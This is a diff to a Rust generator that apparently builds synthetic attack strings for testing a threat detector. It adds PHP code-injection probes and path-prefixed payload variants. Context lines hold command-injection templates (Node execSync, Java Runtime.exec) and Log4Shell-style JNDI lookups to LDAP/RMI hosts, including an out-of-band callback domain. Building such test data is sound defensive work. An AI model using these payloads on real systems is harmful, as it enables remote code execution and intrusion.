@@ -42,7 +42,8 @@ fn surrounded(class: ThreatClass, payload: String, rng: &mut Rng) -> String {
         0 => format!("{} {payload}", text(rng)),
         1 => format!("{payload} {}", text(rng)),
         2 => format!("{}{payload}{}", word(rng), word(rng)),
-        3 if class == ThreatClass::PathTraversal => format!("{}{payload}", path(rng)),
+        3 => format!("{}/{payload}", path(rng)),
+        4 if class == ThreatClass::PathTraversal => format!("{}{payload}", path(rng)),
         _ => payload,
     }
 }
@@ -159,7 +160,11 @@ fn code(rng: &mut Rng) -> String {
         6 => format!("global.process.mainModule.require('child_process').execSync('{command}')"),
         7 => format!("java.lang.Runtime.getRuntime().exec(\"{command}\")"),
         8 => format!("';{call}('{command}');//"),
-        9 => format!("echo md5({});", rng.below(99_999)),
+        9 => match rng.below(3) {
+            0 => format!("echo md5({});", rng.below(99_999)),
+            1 => format!("<?php echo \"{}\"; ?>", word(rng)),
+            _ => format!("<?php die(md5({})); ?>", rng.below(99_999)),
+        },
         10 => "phpinfo()".to_owned(),
         11 => format!("print({}*{})", rng.below(9999), rng.below(9999)),
         12 => format!("<% out.println({}*{}); %>", rng.below(999), rng.below(999)),
@@ -237,7 +242,7 @@ fn expression(rng: &mut Rng) -> String {
         "${hostName}.x.oast.pro",
     ]);
     let protocol = rng.pick(&["ldap", "rmi", "dns", "ldaps", "iiop"]);
-    match rng.below(12) {
+    match rng.below(13) {
         0..=2 => format!("${{jndi:{protocol}://{host}}}"),
         3 => format!("${{${{lower:j}}${{upper:n}}${{lower:d}}i:{protocol}://{host}}}"),
         4 => format!(
